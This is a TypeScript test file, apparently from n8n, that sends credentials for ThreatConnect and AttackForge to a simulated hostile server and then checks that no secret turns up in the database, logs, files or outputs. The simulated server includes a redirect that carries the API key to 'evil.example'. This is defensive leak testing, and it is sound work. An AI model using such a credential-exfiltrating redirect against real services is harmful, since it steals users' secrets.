import { readdirSync, readFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { startAttackForge } from '../simulators/attackforge';
import type { RunningServer } from '../simulators/shared/server';
import { type HttpServer, startHttpServer } from '../support/httpServer';
import { openStage, type Stage } from './stage';
import { ATTACKFORGE, failuresOf, runByHand, THREATCONNECT, workflowOf } from './workflows';

/**
 * All failures, in an n8n that saves all executions and logs as much as it can. After that, no secret may be anywhere
 * in its user folder: database, logs, files.
 */

/** Secrets that occur nowhere else. */
const SECRETS = {
	threatConnectApi: 'APIV2:977:s3cReT:1924905600000:dG9rZW4tb2YtdGhlLXNlY3JldHMtdGVzdA==',
	threatConnectHmacApi: 'HmacKeyOfTheSecretsTest!$^&(0123456789)[abcdef]{ABCDEF}/+=~',
	attackForgeApi: 'KeyOfTheSecretsTest0123456789'.repeat(8),
};
type Credential = keyof typeof SECRETS;

const secretFields: Record<Credential, (secret: string) => Record<string, string>> = {
	threatConnectApi: (apiToken) => ({ apiToken }),
	threatConnectHmacApi: (secretKey) => ({ accessId: '11112222333344445555', secretKey }),
	attackForgeApi: (apiKey) => ({ apiKey }),
};

/** If this text is found, the responses of the hostile server do reach the searched folder. */
const MARKER = 'marker-of-the-hostile-server';

/** The request as it came, with its headers and therefore its secret. */
const echo = ({ method, url, headers }: IncomingMessage) =>
	`${MARKER} ${method} ${url} ${JSON.stringify(headers)}`;

type Answer = (request: IncomingMessage, response: ServerResponse) => void;

const withJson =
	(status: number): Answer =>
	(request, response) => {
		const message = echo(request);
		const statusText = String(request.headers.authorization ?? request.headers['x-ssapi-key']);
		response.writeHead(status, statusText, { 'content-type': 'application/json' });
		response.end(JSON.stringify({ status: 'Failure', message, error: message, headers: request.headers }));
	};

const plain =
	(status: number, type: string, text: string): Answer =>
	(_request, response) => {
		response.writeHead(status, { 'content-type': type });
		response.end(text);
	};

/**
 * Whether a response does not repeat the request. The HTTP Request node outputs responses unchanged, so no credential
 * can keep a secret out of its output if the service itself repeats it.
 */
const repeatsNothing = (mode: string) => !/echo|html|half-json|redirect|file/.test(mode);

/** Responses by the first part of the path, which is in each credential's Base URL. */
const HOSTILE: Record<string, Answer> = {
	'401-echo': withJson(401),
	'403-echo': withJson(403),
	'404-echo': withJson(404),
	'500-echo': withJson(500),
	'200-echo': withJson(200),
	html: (request, response) => {
		response.writeHead(502, { 'content-type': 'text/html' });
		response.end(`<html><body><h1>Bad gateway</h1><pre>${echo(request)}</pre></body></html>`);
	},
	'half-json': (request, response) => {
		response.writeHead(200, { 'content-type': 'application/json' });
		response.end(`{"status":"Success","data":{"name":"${echo(request).replace(/"/g, '\\"')}`);
	},
	redirect: (request, response) => {
		const secret = String(request.headers.authorization ?? request.headers['x-ssapi-key']);
		response.writeHead(302, { location: `https://evil.example/?key=${encodeURIComponent(secret)}` });
		response.end();
	},
	'401': plain(401, 'application/json', `{"message":"${MARKER}"}`),
	'403': plain(403, 'application/json', `{"message":"${MARKER}"}`),
	'500': plain(500, 'text/html', `<html><body>${MARKER}</body></html>`),
	// A file that repeats the request, beside the secret that an HMAC request does not carry.
	file: (request, response) => {
		const isFile = String(request.url).includes('/download');
		response.writeHead(200, { 'content-type': isFile ? 'application/octet-stream' : 'application/json' });
		const data = { id: 1, type: 'Document', name: 'A', status: 'Success', fileName: 'a.bin' };
		const text = `${echo(request)} ${SECRETS.threatConnectHmacApi}`;
		response.end(isFile ? text : JSON.stringify({ status: 'Success', data }));
	},
	reset: (request) => request.socket.destroy(),
	timeout: () => {},
};

let stage: Stage;
let hostile: HttpServer;
let selfSigned: RunningServer;
const said: string[] = [];
/** Of the requests with HMAC: whoever reads one can send its request once more. */
const signatures: string[] = [];

beforeAll(async () => {
	hostile = await startHttpServer((request, response) => {
		const [, mode = ''] = (request.url ?? '').split('/');
		const [, signature] = /^TC \d+:(.+)$/.exec(request.headers.authorization ?? '') ?? [];
		if (signature !== undefined) signatures.push(signature);
		request.resume().on('end', () => HOSTILE[mode]?.(request, response));
	});
	selfSigned = await startAttackForge({ tls: true });
	stage = await openStage({
		env: {
			N8N_LOG_LEVEL: 'debug',
			N8N_LOG_OUTPUT: 'console,file',
			N8N_DEFAULT_BINARY_DATA_MODE: 'filesystem',
			EXECUTIONS_DATA_SAVE_ON_SUCCESS: 'all',
			EXECUTIONS_DATA_SAVE_ON_ERROR: 'all',
		},
	});
});
afterAll(async () => {
	await hostile?.close();
	await selfSigned?.stop();
	await stage?.close();
});

const DOWNLOAD = {
	resource: 'file',
	operation: 'download',
	groupId: { __rl: true, mode: 'id', value: '1' },
	outputField: 'data',
};

/** Both nodes, and the HTTP Request node, going on after a failure and stopping at it. */
function failing(type: Credential, name: string, url: string | undefined) {
	const isAttackForge = type === 'attackForgeApi';
	const own = {
		type: isAttackForge ? ATTACKFORGE : THREATCONNECT,
		parameters: {
			...(type === 'threatConnectHmacApi' && { authentication: 'hmac' }),
			...(name.endsWith(' file') ? DOWNLOAD : { operation: 'create' }),
			dataMode: 'json',
			jsonBody: JSON.stringify(
				isAttackForge
					? {
							name: 'A',
							group_owner: 'B',
							primary_contact_name: 'C',
							primary_contact_number: '1',
							primary_contact_email: 'c@example.com',
						}
					: { type: 'Incident', name: 'A' },
			),
			options: { timeout: 2 },
		},
		credentials: { [type]: name },
	};
	const httpRequest = {
		type: 'n8n-nodes-base.httpRequest',
		typeVersion: 4.5,
		parameters: {
			authentication: 'predefinedCredentialType',
			nodeCredentialType: type,
			url: `${url}${isAttackForge ? '/api/ss/groups' : '/api/v3/groups'}`,
			options: { timeout: 2000, response: { response: { fullResponse: true } } },
		},
		credentials: { [type]: name },
	};
	const nodes = [
		{ name: 'Own', ...own },
		...(url === undefined ? [] : [{ name: 'HTTP Request', ...httpRequest }]),
	];
	return [
		workflowOf(`${name} on`, ...nodes.map((node) => ({ ...node, onError: 'continueRegularOutput' }))),
		...nodes.map((node) => workflowOf(`${name} ${node.name}`, node)),
	];
}

/** @param url the address for the HTTP Request node; without one the node is left out */
async function fail(
	type: Credential,
	name: string,
	data: Record<string, string>,
	url?: string,
): Promise<void> {
	const { session } = stage;
	said.push(JSON.stringify(await session.testCredential(name, type, data)));
	await session.addCredential(name, type, data);
	await Promise.all(
		failing(type, name, url).map(async (workflow) => {
			const execution = await runByHand(session, workflow);
			said.push(JSON.stringify(execution), ...failuresOf(execution));
		}),
	);
}

const types = Object.keys(SECRETS) as Credential[];

// All of them run at once, because they mostly wait for responses that never come.
test('each credential fails in every way that a service or a network has', async () => {
	const all = types.flatMap((type) => Object.keys(HOSTILE).map((mode) => ({ type, mode })));
	// AttackForge has no files.
	const ways = all.filter(({ type, mode }) => !(type === 'attackForgeApi' && mode === 'file'));
	await Promise.all(
		ways.map(async ({ type, mode }) => {
			const baseUrl = `${hostile.url}/${mode}`;
			const data = { ...secretFields[type](SECRETS[type]), baseUrl };
			await fail(type, `${type} ${mode}`, data, repeatsNothing(mode) ? baseUrl : undefined);
		}),
	);
});

test.each(types)(
	'%s: fails with a bad Base URL, one that is the secret itself, and a bad certificate',
	async (type) => {
		const secret = SECRETS[type];
		const bases = {
			certificate: selfSigned.url,
			unknown: 'https://no-such-host.invalid',
			insecure: 'http://service.example.com',
			password: `https://user:${encodeURIComponent(secret)}@127.0.0.1:1`,
			itself: secret,
			'itself with scheme': `https://${secret}`,
		};
		for (const [name, baseUrl] of Object.entries(bases)) {
			const data = { ...secretFields[type](secret), baseUrl };
			await fail(type, `${type} ${name}`, data, selfSigned.url);
		}
	},
);

/** The forms that a secret could have. The database may cut long forms into pages. */
function formsOf(secret: string): string[] {
	const parts = [secret.slice(0, 32), secret.slice(-28)];
	const base64 = Buffer.from(secret).toString('base64');
	return [
		...new Set([
			...parts,
			...parts.map((part) => encodeURIComponent(part)),
			...parts.map((part) => part.toLowerCase()),
			base64.slice(0, 32),
			Buffer.from(secret).toString('base64url').slice(0, 32),
		]),
	];
}

function filesIn(folder: string): string[] {
	return readdirSync(folder, { recursive: true, withFileTypes: true })
		.filter((entry) => entry.isFile())
		.map((entry) => join(entry.parentPath, entry.name))
		.filter((path) => !path.includes(join('nodes', 'node_modules')));
}

test('no secret stands in any output, error, log, execution record or file', async () => {
	await stage.n8n.stop();
	const files = filesIn(stage.folder);
	const contents = files.map((path) => ({ path, bytes: readFileSync(path) }));
	// All searched files exist, and responses of the service do reach them.
	expect(files.some((path) => path.endsWith('database.sqlite'))).toBe(true);
	expect(files.filter((path) => path.endsWith('.log')).length).toBeGreaterThanOrEqual(2);
	const marked = contents.filter(({ bytes }) => bytes.includes(MARKER)).map(({ path }) => path);
	expect(marked.some((path) => path.includes('database.sqlite'))).toBe(true);
	expect(said.join('\n')).toContain(MARKER);

	const found = Object.entries(SECRETS).flatMap(([type, secret]) =>
		formsOf(secret).flatMap((form) => [
			...contents
				.filter(({ bytes }) => bytes.includes(form))
				.map(({ path, bytes }) => `${type} in ${path}: ${around(bytes.toString('latin1'), form)}`),
			...said
				.filter((text) => text.includes(form))
				.map((text) => `${type} in an answer of n8n: ${around(text, form)}`),
		]),
	);
	expect(found).toEqual([]);

	expect(signatures.length).toBeGreaterThan(10);
	const texts = [...said, ...contents.map(({ bytes }) => bytes.toString('latin1'))];
	const repeated = signatures.filter((signature) =>
		[signature, encodeURIComponent(signature)].some((form) => texts.some((text) => text.includes(form))),
	);
	expect(repeated).toEqual([]);
});

const around = (text: string, form: string) => {
	const at = text.indexOf(form);
	return text.slice(Math.max(0, at - 200), at + 60);
};
